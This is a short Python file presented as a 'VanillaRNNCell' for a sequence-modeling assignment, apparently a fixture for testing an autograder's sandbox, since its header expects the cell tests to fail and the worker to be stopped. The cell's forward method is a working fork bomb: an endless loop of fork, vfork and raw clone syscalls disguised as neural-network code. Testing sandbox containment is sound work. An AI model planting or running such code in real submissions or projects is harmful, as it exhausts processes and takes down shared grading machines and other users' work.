"""Forks without end, by every call there is."""

# assignment: a7_sequence_modeling
# file: cells.py
# form: replace
# expect: fails cells::vanilla_cell_learns_* cells::vanilla_cell_follows_*
# worker: stopped

import ctypes
import os

from torch import nn

libc = ctypes.CDLL(None)


class VanillaRNNCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()

    def forward(self, x, h):
        while True:
            try:
                if os.fork() >= 0:
                    print("ACHIEVED: fork")
            except OSError:
                pass
            libc.vfork()
            libc.syscall(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD)
